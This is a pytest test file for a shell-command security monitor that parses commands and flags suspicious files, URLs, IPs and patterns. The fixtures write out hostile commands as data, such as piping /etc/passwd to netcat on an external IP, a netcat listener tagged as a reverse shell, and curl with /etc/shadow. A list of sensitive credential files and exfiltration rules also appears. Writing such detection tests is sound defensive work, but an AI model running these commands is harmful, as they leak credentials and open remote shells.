import re

import pytest

from secmonitor.helpers import (
    default_patterns,
    default_rules,
    default_suspicious_files,
    extract_file_paths,
    extract_ip_addresses,
    extract_pipeline_commands,
    extract_urls,
    get_command_name,
    has_external_ips,
    has_permissive_permissions,
    is_external_ip,
    is_recon_command,
    is_sensitive_file_pattern,
    is_suspicious_url,
    matches_pattern,
    reconstruct_command,
)
from secmonitor.models import (
    ASTNode,
    SuspiciousPattern,
    ThreatCategory,
    Token,
    TokenType,
)


def arg(value, kind=TokenType.PARAMETER):
    return ASTNode("Argument", value, token=Token(kind, value))


def command(name, *args):
    return ASTNode("Command", children=[ASTNode("CommandName", name), *args])


def test_reconstruct_pipeline():
    tree = ASTNode(
        "Pipeline",
        children=[
            command("cat", arg("/etc/passwd", TokenType.PATH)),
            ASTNode("Pipe"),
            command("nc", arg("8.8.8.8", TokenType.IP_ADDRESS)),
        ],
    )
    assert reconstruct_command(tree) == "cat /etc/passwd | nc 8.8.8.8"


def test_reconstruct_operators_and_redirections():
    tree = ASTNode(
        "Script",
        children=[
            command("whoami"),
            ASTNode("LogicalOperator", "&&"),
            command("echo", arg("hi")),
            ASTNode("Redirection", ">>", children=[ASTNode("RedirectionTarget", "out")]),
            ASTNode("Separator", ";"),
            command("id", ASTNode("Flag", "-u")),
        ],
    )
    assert reconstruct_command(tree) == "whoami && echo hi >> out ; id -u"


def test_reconstruct_skips_empty_values():
    tree = command("", arg(""), arg("x"))
    assert reconstruct_command(tree) == "x"


def test_get_command_name():
    assert get_command_name(command("ls", arg("a"))) == "ls"
    assert get_command_name(ASTNode("Command", children=[arg("a")])) == ""


def test_has_permissive_permissions():
    assert has_permissive_permissions(command("chmod", arg("777"), arg("f")))
    assert has_permissive_permissions(command("chmod", arg("666"), arg("f")))
    assert not has_permissive_permissions(command("chmod", arg("755"), arg("f")))


def test_permissive_permissions_only_direct_children():
    nested = ASTNode("Wrapper", children=[command("chmod", arg("777"))])
    assert not has_permissive_permissions(nested)


def test_extract_pipeline_commands():
    tree = ASTNode(
        "Pipeline",
        children=[
            command("ps"),
            ASTNode("Pipe"),
            command(""),
            ASTNode("Pipe"),
            command("grep", arg("ssh")),
        ],
    )
    assert extract_pipeline_commands(tree) == ["ps", "grep"]


def test_extract_arguments_by_token_type():
    tree = ASTNode(
        "Pipeline",
        children=[
            command(
                "curl",
                arg("https://pastebin.com/x", TokenType.URL),
                arg("/etc/shadow", TokenType.PATH),
            ),
            command("nc", arg("10.0.0.5", TokenType.IP_ADDRESS), arg("/tmp", TokenType.PATH)),
            ASTNode("Argument", "/no/token"),
        ],
    )
    assert extract_file_paths(tree) == ["/etc/shadow", "/tmp"]
    assert extract_ip_addresses(tree) == ["10.0.0.5"]
    assert extract_urls(tree) == ["https://pastebin.com/x"]


@pytest.mark.parametrize(
    "ip, expected",
    [
        ("10.1.2.3", False),
        ("172.16.0.1", False),
        ("172.31.255.255", False),
        ("172.32.0.1", True),
        ("192.168.1.1", False),
        ("127.0.0.1", False),
        ("8.8.8.8", True),
        ("not-an-ip", False),
        ("300.1.1.1", False),
        ("::1", True),
        ("::ffff:10.0.0.1", False),
        ("::ffff:8.8.8.8", True),
    ],
)
def test_is_external_ip(ip, expected):
    assert is_external_ip(ip) is expected


def test_has_external_ips():
    assert has_external_ips(command("ssh", arg("8.8.4.4", TokenType.IP_ADDRESS)))
    assert not has_external_ips(command("ssh", arg("192.168.0.2", TokenType.IP_ADDRESS)))
    assert not has_external_ips(command("ssh", arg("8.8.4.4")))


@pytest.mark.parametrize(
    "url, expected",
    [
        ("https://bit.ly/abc", True),
        ("http://pastebin.com/raw/1", True),
        ("https://raw.githubusercontent.com/a/b", True),
        ("http://evil.tk", True),
        ("http://evil.tk/path", False),
        ("https://example.com/file", False),
    ],
)
def test_is_suspicious_url(url, expected):
    assert is_suspicious_url(url) is expected


@pytest.mark.parametrize(
    "path, expected",
    [
        ("/etc/passwd", True),
        ("/ETC/SHADOW", True),
        ("/home/u/.ssh/id_rsa", True),
        ("server.pem", True),
        ("server.pem.bak", False),
        ("app_Config.yml", True),
        ("/home/u/notes.txt", False),
    ],
)
def test_is_sensitive_file_pattern(path, expected):
    assert is_sensitive_file_pattern(path) is expected


def test_is_recon_command():
    assert is_recon_command("whoami")
    assert is_recon_command("printenv")
    assert not is_recon_command("ls")


def test_matches_pattern_by_regex():
    pattern = SuspiciousPattern("p", "d", commands=[], regex=r"nc.*-l.*-p\s+\d+")
    tree = command("nc", ASTNode("Flag", "-l"), ASTNode("Flag", "-p"), arg("4444"))
    assert matches_pattern(tree, pattern)


def test_matches_pattern_by_command_substring():
    pattern = SuspiciousPattern("p", "d", commands=["base64"], regex="")
    assert matches_pattern(command("base64", arg("file")), pattern)
    assert not matches_pattern(command("ls", arg("file")), pattern)


def test_default_reverse_shell_pattern_matches():
    reverse_shell = default_patterns()[0]
    tree = command("nc", ASTNode("Flag", "-l"), ASTNode("Flag", "-p"), arg("4444"))
    assert matches_pattern(tree, reverse_shell)
    assert reverse_shell.category is ThreatCategory.NETWORK_ACTIVITY


def test_default_rules():
    rules = default_rules()
    assert [rule.id for rule in rules] == [
        "PRIV_ESC_SUDO",
        "DATA_EXFIL_CURL",
        "RECON_ENUM",
        "PERSIST_CRON",
        "NET_SHELL",
    ]
    assert all(rule.enabled for rule in rules)
    assert {rule.action for rule in rules} <= {"LOG", "ALERT", "BLOCK"}
    assert re.search(rules[0].pattern, "sudo ls")


def test_default_suspicious_files():
    files = default_suspicious_files()
    assert files["/etc/shadow"] == 9.0
    assert files["/etc/passwd"] == 8.0
    assert all(0.0 < score <= 10.0 for score in files.values())


def test_default_patterns_are_valid_and_fresh():
    patterns = default_patterns()
    names = [p.name for p in patterns]
    assert len(names) == len(set(names))
    for p in patterns:
        re.compile(p.regex)
        assert p.commands
    patterns[0].commands.append("extra")
    assert "extra" not in default_patterns()[0].commands